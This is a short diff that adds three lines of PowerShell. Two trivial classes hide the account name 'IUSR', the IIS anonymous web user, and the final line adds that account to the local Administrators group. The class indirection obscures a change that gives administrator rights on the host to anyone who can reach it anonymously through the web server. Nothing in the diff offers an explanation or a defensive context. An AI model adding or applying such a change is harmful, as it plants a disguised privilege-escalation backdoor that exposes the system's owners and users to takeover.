@@ -1,0 +1,3 @@
+class B { [string]$N; B([string]$n) { $this.N = $n } }
+class D : B { D() : base('IUSR') {} }
+Add-LocalGroupMember Administrators ([D]::new().N)
